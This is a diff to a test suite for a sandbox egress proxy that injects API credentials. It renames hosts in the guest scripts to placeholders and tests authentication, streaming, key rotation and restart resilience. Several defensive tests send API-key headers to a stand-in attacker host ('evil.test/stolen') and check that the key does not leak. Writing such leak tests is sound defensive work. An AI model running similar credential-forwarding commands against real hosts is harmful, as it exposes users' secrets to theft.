@@ -40,6 +40,8 @@ SLOTS = {
     "api.test": ("x-secret", "key=" + CANARIES["lab-api"]),
 }
 GIT_USER = "x-access-token"
+# Scripts say these names; the servers have the real ones, which the guest's programs must see.
+REAL = {"here.test": "api.anthropic.com", "git.test": "github.com", "groq.test": "api.groq.com"}
 
 
 @pytest.fixture(scope="module")
@@ -83,8 +85,14 @@ def box(env, lab):
     made.rm()
 
 
+def real(script, **more):
+    for name, host in {**REAL, **more}.items():
+        script = script.replace(name, host)
+    return script
+
+
 def client(box, script, user="agent", timeout=120):
-    return box.guest(script, user=user, timeout=timeout)
+    return box.guest(real(script), user=user, timeout=timeout)
 
 
 def got(lab, path, host="api.anthropic.com", n=1):
@@ -108,15 +116,15 @@ def test_the_guest_has_sentinels_and_says_who_it_is(box):
 
 
 CLIENTS = {
-    "curl-h1": "curl -sS --http1.1 -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/PATH",
-    "curl-h2": "curl -sS --http2 -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/PATH",
-    "curl-transparent": "env -u https_proxy -u HTTPS_PROXY curl -sS -m 60 https://api.anthropic.com/PATH",
-    "python-urllib": "python3 -c 'import urllib.request as u,os; print(u.urlopen(u.Request(\"https://api.anthropic.com/PATH\", "
+    "curl-h1": "curl -sS --http1.1 -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" https://here.test/PATH",
+    "curl-h2": "curl -sS --http2 -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" https://here.test/PATH",
+    "curl-transparent": "env -u https_proxy -u HTTPS_PROXY curl -sS -m 60 https://here.test/PATH",
+    "python-urllib": "python3 -c 'import urllib.request as u,os; print(u.urlopen(u.Request(\"https://here.test/PATH\", "
                      "headers={\"x-api-key\": os.environ[\"ANTHROPIC_API_KEY\"]}), timeout=60).read())'",
-    "python-requests": "python3 -c 'import requests; print(requests.get(\"https://api.anthropic.com/PATH\", timeout=60).text)'",
-    "node-fetch": "node -e 'fetch(\"https://api.anthropic.com/PATH\", {headers: {\"x-api-key\": process.env.ANTHROPIC_API_KEY}})"
+    "python-requests": "python3 -c 'from pip._vendor import requests; print(requests.get(\"https://here.test/PATH\", timeout=60).text)'",
+    "node-fetch": "node -e 'fetch(\"https://here.test/PATH\", {headers: {\"x-api-key\": process.env.ANTHROPIC_API_KEY}})"
                   ".then(r => r.text()).then(console.log)'",
-    "node-https": "node -e 'require(\"https\").get(\"https://api.anthropic.com/PATH\", r => r.pipe(process.stdout))'",
+    "node-https": "node -e 'require(\"https\").get(\"https://here.test/PATH\", r => r.pipe(process.stdout))'",
 }
 
 
@@ -131,15 +139,15 @@ def test_a_client_is_authenticated(box, lab, name):
 
 @pytest.mark.parametrize("host", [h for h in SLOTS if h != "api.anthropic.com"])
 def test_each_service_has_its_slot(box, lab, host):
-    client(box, f"curl -sS -m 60 https://{host}/slot-{host}")
+    box.guest(real(f"curl -sS -m 60 https://here.test/slot-{host}", **{"here.test": host}), user="agent", timeout=120)
     got(lab, f"/slot-{host}", host)
 
 
 def test_git_clones_and_pushes(box, lab):
     lab.gits.make("a.git")
-    out = client(box, "set -e; cd /tmp; rm -rf a; git clone -q https://github.com/a.git a 2>&1; cd a; git config user.email a@b; git config user.name a; "
+    out = client(box, "set -e; cd /tmp; rm -rf a; git clone -q https://git.test/a.git a 2>&1; cd a; git config user.email a@b; git config user.name a; "
                       "echo hello > f; git add f; git commit -q -m one; git push -q origin HEAD:main 2>&1; rm -rf /tmp/b; git clone -q -b main "
-                      "https://github.com/a.git /tmp/b; cat /tmp/b/f")
+                      "https://git.test/a.git /tmp/b; cat /tmp/b/f")
     assert out.endswith("hello"), out
     assert set(lab.gits.users) <= {"", lab.gits.want}, lab.gits.users
 
@@ -168,7 +176,7 @@ print("echoed")
 
 
 def test_a_stream_of_events_is_not_held_up(box, lab):
-    script = ("python3 -u -c 'import time,urllib.request as u; r=u.urlopen(\"https://api.anthropic.com/sse?n=6&ms=1000\", timeout=60); "
+    script = ("python3 -u -c 'import time,urllib.request as u; r=u.urlopen(\"https://here.test/sse?n=6&ms=1000\", timeout=60); "
               "t=[time.time() for c in iter(lambda: r.read1(1), b\"\")]; print(max(b-a for a,b in zip(t,t[1:])))'")
     gap = float(client(box, script))
     assert gap <= 1.1, f"{gap} s between two bytes"
@@ -176,8 +184,8 @@ def test_a_stream_of_events_is_not_held_up(box, lab):
 
 def test_a_body_is_streamed_both_ways(box, lab):
     n = 64 << 20
-    out = client(box, f"head -c {n} /dev/zero | curl -sS -m 300 -T - https://api.anthropic.com/up; curl -sS -m 300 "
-                      f"'https://api.anthropic.com/download?n={n}' | wc -c", timeout=700)
+    out = client(box, f"head -c {n} /dev/zero | curl -sS -m 300 -T - https://here.test/up; curl -sS -m 300 "
+                      f"'https://here.test/download?n={n}' | wc -c", timeout=700)
     assert out.split()[-1] == str(n), out[-300:]
     assert got(lab, "/up")["length"] == n
 
@@ -186,14 +194,14 @@ def test_a_body_is_streamed_both_ways(box, lab):
 
 def test_a_foreign_key_does_not_leave(box, lab):
     for header in ("x-api-key: sk-ant-thief", "X-API-KEY: thief", "authorization: Bearer thief"):
-        out = client(box, f"curl -sS -m 60 -w '%{{http_code}}' -H '{header}' https://api.anthropic.com/foreign")
+        out = client(box, f"curl -sS -m 60 -w '%{{http_code}}' -H '{header}' https://here.test/foreign")
         assert out.endswith("403") and "credential" in out, out
     assert not [r for r in lab.server.requests if r["path"] == "/foreign"]
 
 
 def test_a_redirect_takes_no_credential_along(box, lab):
     client(box, "curl -sS -m 60 -L --cacert /etc/ssl/certs/ca-certificates.crt -H \"x-api-key: $ANTHROPIC_API_KEY\" "
-                f"--cacert {shlex.quote(str(box.folder))}/lab.pem 'https://api.anthropic.com/redirect?to=https://evil.test/stolen'; true")
+                f"--cacert {shlex.quote(str(box.folder))}/lab.pem 'https://here.test/redirect?to=https://evil.test/stolen'; true")
     client(box, f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem -H \"x-api-key: $ANTHROPIC_API_KEY\" https://evil.test/stolen")
     for request in lab.evil.wait("/stolen"):
         assert not any(canary in json.dumps(request) for canary in CANARIES.values()), request
@@ -202,7 +210,7 @@ def test_a_redirect_takes_no_credential_along(box, lab):
 @pytest.mark.parametrize("how", ["plain", "base64", "base64a", "base64b", "base64url", "hex", "HEX", "percent", "percentsome", "json", "html", "htmlhex",
                                  "utf16", "twice", "split", "header", "trailer", "gzip", "deflate", "br", "zstd", "redirect"])
 def test_a_reflection_is_removed(box, lab, how):
-    done = box.exec("curl", "-sS", "-i", "-m", "60", "--compressed", f"https://api.anthropic.com/reflect/{how}", user="agent", binary=True, timeout=120)
+    done = box.exec("curl", "-sS", "-i", "-m", "60", "--compressed", real(f"https://here.test/reflect/{how}"), user="agent", binary=True, timeout=120)
     said, canary = done.stdout, CANARIES["anthropic"].encode()
     got(lab, f"/reflect/{how}")
     for form in (canary, canary.hex().encode(), canary.hex().upper().encode(), base64.b64encode(canary)[:-4], base64.b64encode(b"u:" + canary)[4:-4],
@@ -213,7 +221,7 @@ def test_a_reflection_is_removed(box, lab, how):
 
 
 def test_plain_http_to_its_host_is_refused(box):
-    out = client(box, "curl -sS -m 60 -w '%{http_code}' http://api.anthropic.com/plain")
+    out = client(box, "curl -sS -m 60 -w '%{http_code}' http://here.test/plain")
     assert out.endswith("403") and "https" in out, out
 
 
@@ -236,7 +244,7 @@ def docker(box, lab):
 
 
 def test_a_container_is_authenticated(docker, lab):
-    out = docker.guest("docker run --rm -v /usr:/usr:ro -v /etc/ssl:/etc/ssl:ro lab:1 curl -sS -m 60 https://api.anthropic.com/container", timeout=SLOW)
+    out = docker.guest(real("docker run --rm -v /usr:/usr:ro -v /etc/ssl:/etc/ssl:ro lab:1 curl -sS -m 60 https://here.test/container"), timeout=SLOW)
     assert '"ok":true' in out
     got(lab, "/container")
 
@@ -251,10 +259,10 @@ def test_docker_pushes_and_pulls_with_a_credential(docker, lab):
 def test_a_new_value_counts_at_once_and_a_removed_one_no_more(env, box, lab):
     new = "gsk_" + secrets.token_hex(24)
     env.sbx("secret", "set", "-f", "groq", input=new)
-    client(box, "curl -sS -m 60 https://api.groq.com/renewed")
+    client(box, "curl -sS -m 60 https://groq.test/renewed")
     assert lab.server.header(lab.server.wait("/renewed")[0], "authorization") == ["Bearer " + new]
     env.sbx("secret", "rm", "-f", "groq")
-    client(box, f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://api.groq.com/removed")
+    client(box, f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://groq.test/removed")
     assert lab.server.header(lab.server.wait("/removed")[0], "authorization") == []
     CANARIES["groq-2"] = new
     env.sbx("secret", "set", "groq", input=CANARIES["groq"])
@@ -262,18 +270,18 @@ def test_a_new_value_counts_at_once_and_a_removed_one_no_more(env, box, lab):
 
 def test_it_works_after_a_restart_and_after_kills(env, box, lab):
     box.stop()
-    client(box, "curl -sS -m 60 https://api.anthropic.com/restarted", timeout=200)
+    client(box, "curl -sS -m 60 https://here.test/restarted", timeout=200)
     got(lab, "/restarted")
     for victim in ("edge", "egress"):
         os.kill(box.pids()[victim], 9)
         time.sleep(1)
-        client(box, f"curl -sS -m 60 --retry 5 --retry-all-errors https://api.anthropic.com/after-{victim}")
+        client(box, f"curl -sS -m 60 --retry 5 --retry-all-errors https://here.test/after-{victim}")
         got(lab, f"/after-{victim}")
     subprocess.run(["pkill", "-KILL", "-P", str(box.pids()["keeper"]), "sbx-origin"], check=False)
-    client(box, "curl -sS -m 60 --retry 5 --retry-all-errors https://api.anthropic.com/after-origin")
+    client(box, "curl -sS -m 60 --retry 5 --retry-all-errors https://here.test/after-origin")
     got(lab, "/after-origin")
     os.kill(env.daemon_pid(), 9)
-    client(box, "curl -sS -m 60 https://api.anthropic.com/after-sbxd")
+    client(box, "curl -sS -m 60 https://here.test/after-sbxd")
     got(lab, "/after-sbxd")
 
 
